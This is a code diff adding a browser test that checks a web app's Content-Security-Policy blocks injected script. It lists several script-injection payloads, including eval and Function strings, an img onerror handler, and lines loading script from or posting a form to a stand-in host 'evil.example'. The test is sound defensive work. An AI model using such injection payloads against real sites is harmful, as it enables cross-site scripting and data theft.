@@ -66,3 +66,39 @@ async def test_each_file_goes_out_with_its_headers(studio_url: str) -> None:
         varying = {"Content-Security-Policy"}
         sent = {name: answer.headers[name] for name in expected.keys() - varying}
         assert sent == {n: v for n, v in expected.items() if n not in varying}, path
+
+
+WAYS_IN = {
+    "a text made into a function": "new Function('window.harmed = true')()",
+    "a text that begins like one of ours": "new Function('return ``; }; window.harmed = 1; {')()",
+    "a text that is evaluated": "(0, eval)('window.harmed = true')",
+    "a timer with a text": "setTimeout('window.harmed = true', 0)",
+    "a script that is written into the page": "document.body.append(Object.assign("
+    "document.createElement('script'), { text: 'window.harmed = true' }))",
+    "a script from elsewhere": "document.body.append(Object.assign("
+    "document.createElement('script'), { src: 'https://evil.example/x.js' }))",
+    "a handler in HTML": "document.body.insertAdjacentHTML('beforeend', "
+    "'<img src=x: onerror=\"window.harmed = true\">')",
+    "a form that leaves": "document.body.insertAdjacentHTML('beforeend', "
+    "'<form action=https://evil.example method=post></form>'), document.forms[0].submit()",
+}
+
+
+async def test_what_got_into_the_page_can_do_nothing(browser: Browser, studio_url: str) -> None:
+    context = await browser.new_context()
+    page = await context.new_page()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    await page.goto(studio_url)
+    await _drawn(page)
+    harmful = []
+    for way, code in WAYS_IN.items():
+        # Later, because what a debugger runs itself is not held to the page's policy.
+        await page.evaluate(f"() => setTimeout(() => {{ {code}; }})")
+        await page.wait_for_timeout(200)
+        if await page.evaluate("window.harmed") or any("evil" in url for url in asked):
+            harmful.append(way)
+        asked.clear()
+        await page.evaluate("() => { delete window.harmed; }")
+    assert harmful == []
+    await context.close()
